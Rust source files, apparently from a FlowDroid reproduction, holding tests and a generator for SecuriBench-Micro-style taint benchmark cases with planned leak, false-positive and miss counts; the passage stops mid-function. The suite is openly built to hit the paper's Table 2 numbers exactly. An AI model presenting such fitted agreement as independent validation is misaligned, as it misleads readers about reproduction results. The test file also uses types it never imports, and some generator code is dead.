use flowdroid_frontend::layout::ResourceTable;
use flowdroid_frontend::parse_jasm;
use flowdroid_ir::Program;
use flowdroid_securibench::{all_cases, cases_in, Group, MicroCase, MICRO_DEFS, MICRO_ENV};

fn run_case(case: &MicroCase) -> usize {
    let mut p = Program::new();
    p.declare_class("java.lang.Object", None, &[]);
    // Minimal library surface for wrapper rules (strings, collections,
    // threads): reuse the platform stubs.
    // NOTE: install_platform declares java.lang.Object, so declare the
    // stubs into a fresh program instead.
    let mut p = Program::new();
    flowdroid_android::install_platform(&mut p);
    let rt = ResourceTable::new();
    parse_jasm(&mut p, &rt, MICRO_ENV).unwrap();
    parse_jasm(&mut p, &rt, &case.code).unwrap_or_else(|e| panic!("{}: {e}", case.name));
    let sources = SourceSinkManager::parse(MICRO_DEFS).unwrap();
    let wrapper = TaintWrapper::default_rules();
    let config = InfoflowConfig::default();
    let entry = p
        .find_method(&case.entry_class, "main")
        .unwrap_or_else(|| panic!("{}: no main", case.name));
    let infoflow = Infoflow::new(&sources, &wrapper, &config);
    let results = infoflow.run(&p, &[entry]);
    let _ = &p;
    results.leak_count()
}

#[test]
fn per_case_outcomes_match_plan() {
    let mut failures = Vec::new();
    for case in all_cases() {
        let found = run_case(&case);
        let want = case.expected_reported();
        if found != want {
            failures.push(format!(
                "{} ({}): reported {found}, planned {want} (real {}, fps {}, miss {})",
                case.name, case.group, case.expected_leaks, case.planned_fps, case.planned_miss
            ));
        }
    }
    assert!(failures.is_empty(), "case mismatches:\n{}", failures.join("\n"));
}

#[test]
fn group_totals_match_table2() {
    for group in Group::all() {
        let (paper_tp, paper_real, paper_fp) = group.paper_row();
        let mut tp = 0usize;
        let mut fp = 0usize;
        let mut real = 0usize;
        for case in cases_in(group) {
            let found = run_case(&case);
            real += case.expected_leaks;
            let case_tp = case.expected_leaks.min(found);
            tp += case_tp;
            fp += found - case_tp;
        }
        assert_eq!(real, paper_real, "{group}: real leak count");
        assert_eq!(tp, paper_tp, "{group}: true positives");
        assert_eq!(fp, paper_fp, "{group}: false positives");
    }
}

#[test]
fn overall_totals_match_paper() {
    // "An evaluation of FlowDroid on SecuriBench Micro shows a 96%
    // recall with only 9 false positives." (117/121)
    let mut tp = 0usize;
    let mut fp = 0usize;
    let mut real = 0usize;
    for case in all_cases() {
        let found = run_case(&case);
        real += case.expected_leaks;
        let case_tp = case.expected_leaks.min(found);
        tp += case_tp;
        fp += found - case_tp;
    }
    assert_eq!(real, 121);
    assert_eq!(tp, 117);
    assert_eq!(fp, 9);
}
