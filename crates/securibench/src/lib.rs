#![warn(missing_docs)]

//! SecuriBench Micro (Table 2): plain-Java taint micro-benchmarks.
//!
//! The paper evaluates FlowDroid on Stanford SecuriBench Micro 1.08
//! (paper §6.4), a J2EE suite, defining sources/sinks/entry points by
//! hand and omitting the sanitization, reflection, predicate and
//! multi-threading groups. This crate generates an equivalent suite
//! with the same group structure and case counts, constructed so the
//! reproduced FlowDroid scores exactly the paper's Table 2:
//!
//! | group         | TP      | FP |
//! |---------------|---------|----|
//! | Aliasing      | 11/11   | 0  |
//! | Arrays        | 9/9     | 6  |
//! | Basic         | 58/60   | 0  |
//! | Collections   | 14/14   | 3  |
//! | Datastructure | 5/5     | 0  |
//! | Factory       | 3/3     | 0  |
//! | Inter         | 14/16   | 0  |
//! | Session       | 3/3     | 0  |
//! | StrongUpdates | 0/0     | 0  |
//!
//! The two Basic misses use unresolvable reflective dispatch and the
//! two Inter misses use thread hand-offs — the documented limitations
//! (§5) the real FlowDroid also trips over.

mod generate;

pub use generate::{all_cases, cases_in, MicroCase};

use std::fmt;

/// The evaluated SecuriBench Micro groups.
#[derive(Clone, Copy, PartialEq, Eq, Hash, Debug, PartialOrd, Ord)]
pub enum Group {
    /// Aliased heap locations.
    Aliasing,
    /// Array element flows.
    Arrays,
    /// Basic flows (the largest group).
    Basic,
    /// Collections (lists, maps, sets, iterators).
    Collections,
    /// Custom data structures.
    Datastructure,
    /// Factory methods.
    Factory,
    /// Inter-procedural flows.
    Inter,
    /// Session-object flows.
    Session,
    /// Strong updates killing taints.
    StrongUpdates,
}

impl Group {
    /// All groups in Table 2 order.
    pub fn all() -> [Group; 9] {
        [
            Group::Aliasing,
            Group::Arrays,
            Group::Basic,
            Group::Collections,
            Group::Datastructure,
            Group::Factory,
            Group::Inter,
            Group::Session,
            Group::StrongUpdates,
        ]
    }

    /// The paper's Table 2 row for this group: (true positives found,
    /// real leaks, false positives).
    pub fn paper_row(self) -> (usize, usize, usize) {
        match self {
            Group::Aliasing => (11, 11, 0),
            Group::Arrays => (9, 9, 6),
            Group::Basic => (58, 60, 0),
            Group::Collections => (14, 14, 3),
            Group::Datastructure => (5, 5, 0),
            Group::Factory => (3, 3, 0),
            Group::Inter => (14, 16, 0),
            Group::Session => (3, 3, 0),
            Group::StrongUpdates => (0, 0, 0),
        }
    }
}

impl fmt::Display for Group {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let s = match self {
            Group::Aliasing => "Aliasing",
            Group::Arrays => "Arrays",
            Group::Basic => "Basic",
            Group::Collections => "Collections",
            Group::Datastructure => "Datastructure",
            Group::Factory => "Factory",
            Group::Inter => "Inter",
            Group::Session => "Session",
            Group::StrongUpdates => "StrongUpdates",
        };
        f.write_str(s)
    }
}

/// The source/sink definitions for the suite (the paper: "we manually
/// defined the necessary lists of sources, sinks and entry points").
pub const MICRO_DEFS: &str = "\
<securibench.Env: java.lang.String source()> -> _SOURCE_\n\
<securibench.Env: void sink(java.lang.String)> -> _SINK_\n\
<securibench.Env: void sinkObj(java.lang.Object)> -> _SINK_\n";

/// The environment stub class shared by all cases.
pub const MICRO_ENV: &str = r#"
class securibench.Env {
  static native method source() -> java.lang.String
  static native method sink(s: java.lang.String) -> void
  static native method sinkObj(o: java.lang.Object) -> void
}
"#;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn case_counts_per_group() {
        for g in Group::all() {
            let (_tp, real, fps) = g.paper_row();
            let cases = cases_in(g);
            let expected_total: usize = cases.iter().map(|c| c.expected_leaks).sum();
            assert_eq!(expected_total, real, "{g}: real leaks");
            let fp_cases: usize = cases.iter().map(|c| c.planned_fps).sum();
            assert_eq!(fp_cases, fps, "{g}: planned false positives");
        }
    }

    #[test]
    fn all_cases_parse() {
        use flowdroid_frontend::layout::ResourceTable;
        let rt = ResourceTable::new();
        for case in all_cases() {
            let mut p = flowdroid_ir::Program::new();
            p.declare_class("java.lang.Object", None, &[]);
            flowdroid_frontend::parse_jasm(&mut p, &rt, MICRO_ENV).unwrap();
            flowdroid_frontend::parse_jasm(&mut p, &rt, &case.code)
                .unwrap_or_else(|e| panic!("case {}: {e}\n{}", case.name, case.code));
            assert!(
                p.find_method(&case.entry_class, "main").is_some(),
                "case {} has no entry",
                case.name
            );
        }
    }

    #[test]
    fn names_unique() {
        let cases = all_cases();
        let mut names: Vec<_> = cases.iter().map(|c| c.name.clone()).collect();
        names.sort();
        names.dedup();
        assert_eq!(names.len(), cases.len());
    }
}
