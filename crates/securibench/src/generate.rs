//! Case generators for the SecuriBench-Micro-style suite.
//!
//! Cases are generated structurally (not copy-pasted): the Basic group
//! enumerates carrier × sink-position × obfuscation combinations, the
//! other groups enumerate hand-designed structural variants of their
//! theme. Every case is a self-contained `jasm` compilation unit with a
//! `main` entry point.

use crate::Group;

/// One generated micro case.
#[derive(Clone, Debug)]
pub struct MicroCase {
    /// Unique case name (e.g. `Basic17`).
    pub name: String,
    /// The group the case belongs to.
    pub group: Group,
    /// Real leaks in the case.
    pub expected_leaks: usize,
    /// False positives the conservative analysis is *expected* to
    /// report on this case (documented imprecision).
    pub planned_fps: usize,
    /// Whether the documented-limitation mechanism makes the analysis
    /// miss this case's leaks (reflection, threads).
    pub planned_miss: bool,
    /// The `jasm` code.
    pub code: String,
    /// The class containing `main`.
    pub entry_class: String,
}

impl MicroCase {
    fn new(
        name: String,
        group: Group,
        expected_leaks: usize,
        planned_fps: usize,
        planned_miss: bool,
        entry_class: String,
        code: String,
    ) -> MicroCase {
        MicroCase { name, group, expected_leaks, planned_fps, planned_miss, code, entry_class }
    }

    /// The number of leaks the reproduced FlowDroid is expected to
    /// report on this case.
    pub fn expected_reported(&self) -> usize {
        if self.planned_miss {
            0
        } else {
            self.expected_leaks + self.planned_fps
        }
    }
}

/// All cases of all groups.
pub fn all_cases() -> Vec<MicroCase> {
    Group::all().iter().flat_map(|&g| cases_in(g)).collect()
}

/// The cases of one group.
pub fn cases_in(group: Group) -> Vec<MicroCase> {
    match group {
        Group::Aliasing => aliasing(),
        Group::Arrays => arrays(),
        Group::Basic => basic(),
        Group::Collections => collections(),
        Group::Datastructure => datastructure(),
        Group::Factory => factory(),
        Group::Inter => inter(),
        Group::Session => session(),
        Group::StrongUpdates => strong_updates(),
    }
}

const SRC: &str = r#"staticinvoke <securibench.Env: java.lang.String source()>()"#;

fn sink(v: &str) -> String {
    format!("staticinvoke <securibench.Env: void sink(java.lang.String)>({v})")
}

// ===================== Basic =====================

/// 60 cases: 10 carriers × 3 sink positions × 2 obfuscations, with the
/// last two replaced by reflective-dispatch variants the analysis
/// cannot resolve (the paper's 58/60).
fn basic() -> Vec<MicroCase> {
    let mut out = Vec::new();
    let mut i = 0;
    for carrier in 0..10 {
        for sink_pos in 0..3 {
            for obf in 0..2 {
                let name = format!("Basic{i}");
                let cls = format!("securibench.basic.Case{i}");
                if i >= 58 {
                    out.push(reflective_basic(i, &name, &cls));
                } else {
                    out.push(basic_case(&name, &cls, carrier, sink_pos, obf == 1));
                }
                i += 1;
            }
        }
    }
    out
}

fn basic_case(name: &str, cls: &str, carrier: usize, sink_pos: usize, obf: bool) -> MicroCase {
    // The carrier computes tainted `v` from source `s`.
    let (aux_classes, carrier_code, aux_methods) = match carrier {
        0 => (String::new(), "    v = s\n".to_owned(), String::new()),
        1 => (String::new(), "    v = s + \"x\"\n".to_owned(), String::new()),
        2 => (
            String::new(),
            "    let sb: java.lang.StringBuilder\n    sb = new java.lang.StringBuilder\n    specialinvoke sb.<java.lang.StringBuilder: void <init>()>()\n    sb = virtualinvoke sb.<java.lang.StringBuilder: java.lang.StringBuilder append(java.lang.String)>(s)\n    v = virtualinvoke sb.<java.lang.StringBuilder: java.lang.String toString()>()\n".to_string(),
            String::new(),
        ),
        3 => (
            format!("class {cls}$Data extends java.lang.Object {{\n  field f: java.lang.String\n  method <init>() -> void {{ return }}\n}}\n"),
            format!(
                "    let d: {cls}$Data\n    d = new {cls}$Data\n    specialinvoke d.<{cls}$Data: void <init>()>()\n    d.f = s\n    v = d.f\n"
            ),
            String::new(),
        ),
        4 => (
            String::new(),
            format!("    static {cls}.g = s\n    v = static {cls}.g\n"),
            String::new(),
        ),
        5 => (
            String::new(),
            "    let a: java.lang.String[]\n    a = newarray java.lang.String[2]\n    a[0] = s\n    v = a[0]\n".to_owned(),
            String::new(),
        ),
        6 => (
            String::new(),
            format!("    v = staticinvoke <{cls}: java.lang.String id(java.lang.String)>(s)\n"),
            "  static method id(x: java.lang.String) -> java.lang.String {\n    return x\n  }\n".to_string(),
        ),
        7 => (
            format!("class {cls}$Box extends java.lang.Object {{\n  field val: java.lang.String\n  method <init>() -> void {{ return }}\n}}\n"),
            format!(
                "    let b: {cls}$Box\n    b = new {cls}$Box\n    specialinvoke b.<{cls}$Box: void <init>()>()\n    staticinvoke <{cls}: void fill({cls}$Box,java.lang.String)>(b, s)\n    v = b.val\n"
            ),
            format!("  static method fill(b: {cls}$Box, x: java.lang.String) -> void {{\n    b.val = x\n    return\n  }}\n"),
        ),
        8 => (
            String::new(),
            "    if opaque goto alt\n    v = s\n    goto merged\n  label alt:\n    v = s + \"y\"\n  label merged:\n".to_owned(),
            String::new(),
        ),
        _ => (
            String::new(),
            "    let i: int\n    v = \"\"\n    i = 0\n  label top:\n    if i >= 3 goto done\n    v = v + s\n    i = i + 1\n    goto top\n  label done:\n".to_owned(),
            String::new(),
        ),
    };
    let obf_code = if obf { "    v = v + \"_\"\n" } else { "" };
    let (sink_code, sink_methods) = match sink_pos {
        0 => (format!("    {}\n", sink("v")), String::new()),
        1 => (
            format!("    staticinvoke <{cls}: void leak(java.lang.String)>(v)\n"),
            format!("  static method leak(x: java.lang.String) -> void {{\n    {}\n    return\n  }}\n", sink("x")),
        ),
        _ => (
            format!("    staticinvoke <{cls}: void hop(java.lang.String)>(v)\n"),
            format!(
                "  static method hop(x: java.lang.String) -> void {{\n    staticinvoke <{cls}: void leak(java.lang.String)>(x)\n    return\n  }}\n  static method leak(x: java.lang.String) -> void {{\n    {}\n    return\n  }}\n",
                sink("x")
            ),
        ),
    };
    let static_field = if carrier == 4 {
        "  static field g: java.lang.String\n"
    } else {
        ""
    };
    let code = format!(
        "class {cls} extends java.lang.Object {{\n{static_field}  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    s = {SRC}\n{carrier_code}{obf_code}{sink_code}    return\n  }}\n{aux_methods}{sink_methods}}}\n{aux_classes}"
    );
    MicroCase::new(name.to_owned(), Group::Basic, 1, 0, false, cls.to_owned(), code)
}

/// A leak dispatched through an unresolvable reflective call: expected
/// 1 real leak, reported 0 (documented limitation, §5).
fn reflective_basic(i: usize, name: &str, cls: &str) -> MicroCase {
    let variant = if i.is_multiple_of(2) { "run" } else { "call" };
    let code = format!(
        r#"class {cls} extends java.lang.Object {{
  static method main() -> void {{
    let s: java.lang.String
    let m: java.lang.reflect.Method
    s = {SRC}
    m = staticinvoke <{cls}: java.lang.reflect.Method lookup(java.lang.String)>("{variant}")
    virtualinvoke m.<java.lang.reflect.Method: java.lang.Object invoke(java.lang.Object,java.lang.String)>(null, s)
    return
  }}
  static native method lookup(n: java.lang.String) -> java.lang.reflect.Method
  static method {variant}(x: java.lang.String) -> void {{
    {snk}
    return
  }}
}}
"#,
        snk = sink("x"),
    );
    MicroCase::new(name.to_owned(), Group::Basic, 1, 0, true, cls.to_owned(), code)
}

// ===================== Aliasing =====================

fn aliasing() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..11 {
        let name = format!("Aliasing{i}");
        let cls = format!("securibench.alias.Case{i}");
        let holder = format!("{cls}$H");
        let header = format!(
            "class {holder} extends java.lang.Object {{\n  field f: java.lang.String\n  field inner: {holder}\n  method <init>() -> void {{ return }}\n}}\n"
        );
        let body = match i {
            // Local alias, write through one name, read the other.
            0 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    a.f = s\n    v = b.f\n"),
            // Reverse: write through the alias, read the original.
            1 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    b.f = s\n    v = a.f\n"),
            // Alias established *before* the taint (activation order).
            2 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    v = b.f\n    {early}\n    a.f = s\n    v = b.f\n", early = sink("v")),
            // Alias created in a callee (Figure 2 shape).
            3 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = staticinvoke <{cls}: {holder} same({holder})>(a)\n    a.f = s\n    v = b.f\n"),
            // Taint written in a callee, read through the alias.
            4 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    staticinvoke <{cls}: void poison({holder},java.lang.String)>(a, s)\n    v = b.f\n"),
            // Two-level: alias of an inner object.
            5 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    c = new {holder}\n    specialinvoke c.<{holder}: void <init>()>()\n    a.inner = c\n    b = a.inner\n    c.f = s\n    v = b.f\n"),
            // Alias through an array cell.
            6 => format!("    let arr: {holder}[]\n    arr = newarray {holder}[1]\n    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    arr[0] = a\n    b = arr[0]\n    a.f = s\n    v = b.f\n"),
            // Chained locals.
            7 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    c = b\n    c.f = s\n    v = a.f\n"),
            // Alias through a cast.
            8 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    o = (java.lang.Object) a\n    b = ({holder}) o\n    b.f = s\n    v = a.f\n"),
            // Aliased box passed to a callee that leaks it.
            9 => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    a.f = s\n    staticinvoke <{cls}: void leakField({holder})>(b)\n    v = \"done\"\n"),
            // Alias of an alias.
            _ => format!("    a = new {holder}\n    specialinvoke a.<{holder}: void <init>()>()\n    b = a\n    c = b\n    a.f = s\n    v = c.f\n"),
        };
        // Case 9 leaks inside the callee; others leak v in main.
        let main_sink = if i == 9 { String::new() } else { format!("    {}\n", sink("v")) };
        let helpers = format!(
            "  static method same(x: {holder}) -> {holder} {{\n    return x\n  }}\n  static method poison(x: {holder}, t: java.lang.String) -> void {{\n    x.f = t\n    return\n  }}\n  static method leakField(x: {holder}) -> void {{\n    let w: java.lang.String\n    w = x.f\n    {snk}\n    return\n  }}\n",
            snk = sink("w"),
        );
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let a: {holder}\n    let b: {holder}\n    let c: {holder}\n    let o: java.lang.Object\n    s = {SRC}\n{body}{main_sink}    return\n  }}\n{helpers}}}\n{header}"
        );
        out.push(MicroCase::new(name, Group::Aliasing, 1, 0, false, cls, code));
    }
    out
}

// ===================== Arrays =====================

fn arrays() -> Vec<MicroCase> {
    let mut out = Vec::new();
    // 9 real leaks.
    for i in 0..9 {
        let name = format!("Arrays{i}");
        let cls = format!("securibench.arrays.Case{i}");
        let body = match i {
            0 => "    a[0] = s\n    v = a[0]\n".to_owned(),
            1 => "    a[1] = s\n    v = a[1]\n".to_owned(),
            2 => "    let i: int\n    i = 0\n  label top:\n    if i >= 2 goto done\n    a[i] = s\n    i = i + 1\n    goto top\n  label done:\n    v = a[0]\n".to_owned(),
            3 => format!("    a[0] = s\n    v = staticinvoke <{cls}: java.lang.String first(java.lang.String[])>(a)\n"),
            4 => format!("    a = staticinvoke <{cls}: java.lang.String[] make(java.lang.String)>(s)\n    v = a[0]\n"),
            5 => "    let b: java.lang.String[]\n    a[0] = s\n    b = newarray java.lang.String[2]\n    staticinvoke <java.lang.System: void arraycopy(java.lang.Object,int,java.lang.Object,int,int)>(a, 0, b, 0, 2)\n    v = b[0]\n".to_owned(),
            6 => "    let b: java.lang.String[]\n    a[0] = s\n    b = a\n    v = b[1]\n".to_owned(),
            7 => "    let c: char[]\n    let ch: char\n    c = virtualinvoke s.<java.lang.String: char[] toCharArray()>()\n    ch = c[0]\n    v = \"\" + ch\n".to_owned(),
            _ => "    a[0] = s\n    a[1] = \"x\"\n    v = a[0]\n".to_owned(),
        };
        let helpers = "  static method first(x: java.lang.String[]) -> java.lang.String {\n    let r: java.lang.String\n    r = x[0]\n    return r\n  }\n  static method make(t: java.lang.String) -> java.lang.String[] {\n    let x: java.lang.String[]\n    x = newarray java.lang.String[1]\n    x[0] = t\n    return x\n  }\n".to_string();
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let a: java.lang.String[]\n    a = newarray java.lang.String[2]\n    s = {SRC}\n{body}    {snk}\n    return\n  }}\n{helpers}}}\n",
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::Arrays, 1, 0, false, cls, code));
    }
    // 6 planned false positives: a clean element is leaked while a
    // sibling element is tainted (index-insensitive handling).
    for i in 0..6 {
        let name = format!("ArraysFP{i}");
        let cls = format!("securibench.arrays.Fp{i}");
        let body = match i {
            0 => "    a[1] = s\n    a[0] = \"clean\"\n    v = a[0]\n".to_owned(),
            1 => "    a[0] = \"clean\"\n    a[1] = s\n    v = a[0]\n".to_owned(),
            2 => "    let i: int\n    i = 1\n    a[i] = s\n    v = a[0]\n".to_owned(),
            3 => "    let b: java.lang.String[]\n    b = newarray java.lang.String[2]\n    a[1] = s\n    b[0] = \"clean\"\n    staticinvoke <java.lang.System: void arraycopy(java.lang.Object,int,java.lang.Object,int,int)>(a, 0, b, 0, 1)\n    v = b[0]\n".to_owned(),
            4 => "    let i: int\n    i = 3 - 2\n    a[i] = s\n    v = a[0]\n".to_owned(),
            _ => "    a[1] = s\n    v = a[0]\n    v = v + \"!\"\n".to_owned(),
        };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let a: java.lang.String[]\n    a = newarray java.lang.String[2]\n    s = {SRC}\n{body}    {snk}\n    return\n  }}\n}}\n",
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::Arrays, 0, 1, false, cls, code));
    }
    out
}

// ===================== Collections =====================

fn collections() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..14 {
        let name = format!("Collections{i}");
        let cls = format!("securibench.coll.Case{i}");
        let body = match i {
            0 => list_body("    e = virtualinvoke l.<java.util.ArrayList: java.lang.Object get(int)>(0)\n"),
            1 => list_body("    let it: java.util.Iterator\n    it = virtualinvoke l.<java.util.ArrayList: java.util.Iterator iterator()>()\n    e = virtualinvoke it.<java.util.Iterator: java.lang.Object next()>()\n"),
            2 => set_body(),
            3 => map_body("k"),
            4 => map_body("v"),
            5 => "    l = new java.util.LinkedList\n    specialinvoke l2.<java.util.LinkedList: void noop()>()\n".to_string(), // replaced below
            _ => String::new(),
        };
        let _ = body;
        // Hand-rolled variants for clarity:
        let code = collections_case(i, &cls);
        out.push(MicroCase::new(name, Group::Collections, 1, 0, false, cls, code));
    }
    for i in 0..3 {
        let name = format!("CollectionsFP{i}");
        let cls = format!("securibench.coll.Fp{i}");
        let container = match i {
            0 => ("java.util.ArrayList", "add"),
            1 => ("java.util.LinkedList", "add"),
            _ => ("java.util.HashSet", "add"),
        };
        let code = format!(
            r#"class {cls} extends java.lang.Object {{
  static method main() -> void {{
    let s: java.lang.String
    let v: java.lang.String
    let e: java.lang.Object
    let l: {c}
    s = {SRC}
    l = new {c}
    specialinvoke l.<{c}: void <init>()>()
    virtualinvoke l.<{c}: boolean {m}(java.lang.Object)>("clean")
    virtualinvoke l.<{c}: boolean {m}(java.lang.Object)>(s)
    e = virtualinvoke l.<{c}: java.lang.Object get(int)>(0)
    v = virtualinvoke e.<java.lang.Object: java.lang.String toString()>()
    {snk}
    return
  }}
}}
"#,
            c = container.0,
            m = container.1,
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::Collections, 0, 1, false, cls, code));
    }
    out
}

fn list_body(get: &str) -> String {
    format!(
        "    l = new java.util.ArrayList\n    specialinvoke l.<java.util.ArrayList: void <init>()>()\n    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(s)\n{get}"
    )
}

fn set_body() -> String {
    "    h = new java.util.HashSet\n    specialinvoke h.<java.util.HashSet: void <init>()>()\n"
        .to_owned()
}

fn map_body(_which: &str) -> String {
    String::new()
}

fn collections_case(i: usize, cls: &str) -> String {
    let decls = "    let s: java.lang.String\n    let v: java.lang.String\n    let e: java.lang.Object\n    let l: java.util.ArrayList\n    let l2: java.util.ArrayList\n    let h: java.util.HashSet\n    let m: java.util.HashMap\n    let it: java.util.Iterator\n";
    let new_list = "    l = new java.util.ArrayList\n    specialinvoke l.<java.util.ArrayList: void <init>()>()\n";
    let add_s = "    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(s)\n";
    let get0 = "    e = virtualinvoke l.<java.util.ArrayList: java.lang.Object get(int)>(0)\n";
    let iter_next = "    it = virtualinvoke l.<java.util.ArrayList: java.util.Iterator iterator()>()\n    e = virtualinvoke it.<java.util.Iterator: java.lang.Object next()>()\n";
    let to_v = "    v = virtualinvoke e.<java.lang.Object: java.lang.String toString()>()\n";
    let new_map = "    m = new java.util.HashMap\n    specialinvoke m.<java.util.HashMap: void <init>()>()\n";
    let body = match i {
        0 => format!("{new_list}{add_s}{get0}{to_v}"),
        1 => format!("{new_list}{add_s}{iter_next}{to_v}"),
        2 => format!("    h = new java.util.HashSet\n    specialinvoke h.<java.util.HashSet: void <init>()>()\n    virtualinvoke h.<java.util.HashSet: boolean add(java.lang.Object)>(s)\n    it = virtualinvoke h.<java.util.HashSet: java.util.Iterator iterator()>()\n    e = virtualinvoke it.<java.util.Iterator: java.lang.Object next()>()\n{to_v}"),
        3 => format!("{new_map}    virtualinvoke m.<java.util.HashMap: java.lang.Object put(java.lang.Object,java.lang.Object)>(\"k\", s)\n    e = virtualinvoke m.<java.util.HashMap: java.lang.Object get(java.lang.Object)>(\"k\")\n{to_v}"),
        4 => format!("{new_map}    virtualinvoke m.<java.util.HashMap: java.lang.Object put(java.lang.Object,java.lang.Object)>(s, \"val\")\n    e = virtualinvoke m.<java.util.HashMap: java.lang.Object get(java.lang.Object)>(s)\n{to_v}"),
        5 => format!("{new_list}{add_s}    l2 = l\n    e = virtualinvoke l2.<java.util.ArrayList: java.lang.Object get(int)>(0)\n{to_v}"),
        6 => format!("{new_list}{add_s}    e = staticinvoke <{cls}: java.lang.Object fetch(java.util.ArrayList)>(l)\n{to_v}"),
        7 => format!("{new_list}    staticinvoke <{cls}: void put(java.util.ArrayList,java.lang.String)>(l, s)\n{get0}{to_v}"),
        8 => format!("{new_list}{add_s}    l2 = new java.util.ArrayList\n    specialinvoke l2.<java.util.ArrayList: void <init>()>()\n    virtualinvoke l2.<java.util.ArrayList: boolean add(java.lang.Object)>(l)\n    e = virtualinvoke l2.<java.util.ArrayList: java.lang.Object get(int)>(0)\n{to_v}"),
        9 => format!("{new_list}    v = s + \"\"\n    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(v)\n{get0}{to_v}"),
        10 => format!("{new_list}{add_s}{get0}    v = (java.lang.String) e\n"),
        11 => format!("{new_map}    virtualinvoke m.<java.util.HashMap: java.lang.Object put(java.lang.Object,java.lang.Object)>(\"k\", s)\n    e = staticinvoke <{cls}: java.lang.Object lookup(java.util.HashMap)>(m)\n{to_v}"),
        12 => format!("{new_list}{add_s}    virtualinvoke l.<java.util.ArrayList: boolean add(java.lang.Object)>(\"after\")\n{get0}{to_v}"),
        _ => format!("{new_list}{add_s}{iter_next}    v = (java.lang.String) e\n"),
    };
    format!(
        "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n{decls}    s = {SRC}\n{body}    {snk}\n    return\n  }}\n  static method fetch(x: java.util.ArrayList) -> java.lang.Object {{\n    let r: java.lang.Object\n    r = virtualinvoke x.<java.util.ArrayList: java.lang.Object get(int)>(0)\n    return r\n  }}\n  static method put(x: java.util.ArrayList, t: java.lang.String) -> void {{\n    virtualinvoke x.<java.util.ArrayList: boolean add(java.lang.Object)>(t)\n    return\n  }}\n  static method lookup(x: java.util.HashMap) -> java.lang.Object {{\n    let r: java.lang.Object\n    r = virtualinvoke x.<java.util.HashMap: java.lang.Object get(java.lang.Object)>(\"k\")\n    return r\n  }}\n}}\n",
        snk = sink("v"),
    )
}

// ===================== Datastructure =====================

fn datastructure() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..5 {
        let name = format!("Datastructure{i}");
        let cls = format!("securibench.ds.Case{i}");
        let node = format!("{cls}$Node");
        let body = match i {
            // Linked node chain.
            0 => format!("    n = new {node}\n    specialinvoke n.<{node}: void <init>()>()\n    n2 = new {node}\n    specialinvoke n2.<{node}: void <init>()>()\n    n.next = n2\n    n2.val = s\n    n3 = n.next\n    v = n3.val\n"),
            // Value stored through a setter, read through a getter.
            1 => format!("    n = new {node}\n    specialinvoke n.<{node}: void <init>()>()\n    virtualinvoke n.<{node}: void setVal(java.lang.String)>(s)\n    v = virtualinvoke n.<{node}: java.lang.String getVal()>()\n"),
            // Two-level wrapper.
            2 => format!("    n = new {node}\n    specialinvoke n.<{node}: void <init>()>()\n    n2 = new {node}\n    specialinvoke n2.<{node}: void <init>()>()\n    n.next = n2\n    virtualinvoke n2.<{node}: void setVal(java.lang.String)>(s)\n    n3 = n.next\n    v = virtualinvoke n3.<{node}: java.lang.String getVal()>()\n"),
            // Cyclic structure (self-loop) — access-path bounding.
            3 => format!("    n = new {node}\n    specialinvoke n.<{node}: void <init>()>()\n    n.next = n\n    n.val = s\n    n2 = n.next\n    n3 = n2.next\n    v = n3.val\n"),
            // Node built by a helper.
            _ => format!("    n = staticinvoke <{cls}: {node} build(java.lang.String)>(s)\n    v = n.val\n"),
        };
        let code = format!(
            "class {cls} extends java.lang.Object {{\n  static method main() -> void {{\n    let s: java.lang.String\n    let v: java.lang.String\n    let n: {node}\n    let n2: {node}\n    let n3: {node}\n    s = {SRC}\n{body}    {snk}\n    return\n  }}\n  static method build(t: java.lang.String) -> {node} {{\n    let x: {node}\n    x = new {node}\n    specialinvoke x.<{node}: void <init>()>()\n    x.val = t\n    return x\n  }}\n}}\nclass {node} extends java.lang.Object {{\n  field val: java.lang.String\n  field next: {node}\n  method <init>() -> void {{ return }}\n  method setVal(t: java.lang.String) -> void {{\n    this.val = t\n    return\n  }}\n  method getVal() -> java.lang.String {{\n    let r: java.lang.String\n    r = this.val\n    return r\n  }}\n}}\n",
            snk = sink("v"),
        );
        out.push(MicroCase::new(name, Group::Datastructure, 1, 0, false, cls, code));
    }
    out
}

// ===================== Factory =====================

fn factory() -> Vec<MicroCase> {
    let mut out = Vec::new();
    for i in 0..3 {
        let name = format!("Factory{i}");
        let cls = format!("securibench.fact.Case{i}");
        let prod = format!("{cls}$P");
        let body = match i {
            // Factory wraps the tainted value in a product object.
            0 => format!("    p = staticinvoke <{cls}: {prod} create(java.lang.String)>(s)\n    v = p.val\n"),
            // Factory returns the tainted string itself.
